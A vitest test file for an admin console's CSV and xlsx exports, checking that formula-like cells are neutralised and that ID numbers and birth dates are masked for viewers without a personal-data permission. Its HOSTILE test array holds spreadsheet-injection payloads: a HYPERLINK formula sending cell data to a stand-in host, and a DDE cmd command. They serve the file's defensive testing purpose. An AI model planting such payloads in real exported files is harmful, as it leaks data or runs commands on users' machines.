// The console's exports: cells a spreadsheet would run as formulas are
// neutralised (CSV: a leading single quote, the OWASP rule; xlsx: written as
// text), and a viewer without the personal-data permission gets no birth-date
// column and only masked ID numbers.
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { csvBlob, formulaLike, xlsxBlob } from '../../admin/src/export/xlsx.ts';
import { exportColumns, type Column } from '../../admin/src/export/columns.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
const HARMLESS = ['-12.5', '42', '张三', '341324********123X', 'a=b', ''];
const columns: Column[] = [{ key: 'v', header: '值', value: (r) => r.v }];

describe('formula-like cells', () => {
  it('are recognised by their first character, plain numbers excepted', () => {
    for (const text of HOSTILE) expect(formulaLike(text), JSON.stringify(text)).toBe(true);
    for (const text of HARMLESS) expect(formulaLike(text), JSON.stringify(text)).toBe(false);
  });

  it('get a leading single quote in CSV, and nothing else changes', async () => {
    const text = await csvBlob(
      columns,
      [...HOSTILE, ...HARMLESS].map((v) => ({ v })),
    ).text();
    const cells = parseCsv(text.replace(/^\uFEFF/, ''))
      .slice(1)
      .map((row) => row[0]);
    expect(cells).toEqual([...HOSTILE.map((v) => `'${v}`), ...HARMLESS]);
    for (const cell of cells) expect(cell!, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });

  it('are text cells in xlsx: the same characters, no formula, the Text format', async () => {
    const blob = await xlsxBlob(
      '导出',
      columns,
      [...HOSTILE, ...HARMLESS].map((v) => ({ v })),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await blob.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    HOSTILE.forEach((value, i) => {
      const cell = sheet.getRow(i + 2).getCell(1);
      expect(cell.type, JSON.stringify(value)).toBe(ExcelJS.ValueType.String);
      // (XML reads a bare CR back as LF.)
      expect(cell.value).toBe(value.replace(/\r/g, '\n'));
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    });
    // Numbers stay numbers.
    expect(sheet.getRow(HOSTILE.length + 2).getCell(1).value).toBe(-12.5);
  });
});

describe('person exports', () => {
  const person = { name: '张三', idNumber: '34132419850312123X', birthYear: 1985, birthDate: '1985-03-12', gender: 'MALE' };

  it('give a masked viewer the birth year, no birth-date column and a masked ID', () => {
    const masked = exportColumns('persons', false);
    expect(masked.map((c) => c.key)).not.toContain('birthDate');
    const row = Object.fromEntries(masked.map((c) => [c.key, c.value(person)]));
    expect(row.birthYear).toBe(1985);
    expect(row.idNumber).toBe('341324********123X');
    expect(JSON.stringify(row)).not.toContain('19850312');
  });

  it('give a viewer with the permission the full date', () => {
    const full = Object.fromEntries(exportColumns('persons', true).map((c) => [c.key, c.value(person)]));
    expect(full).toMatchObject({ birthDate: '1985-03-12', idNumber: '34132419850312123X' });
  });
});

/** RFC 4180, enough for these cells: quoted fields with "" escapes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let field = '';
  let quoted = false;
  const endField = () => {
    rows.at(-1)!.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push([]);
      i++;
    } else field += c;
  }
  rows.at(-1)!.push(field);
  return rows;
}
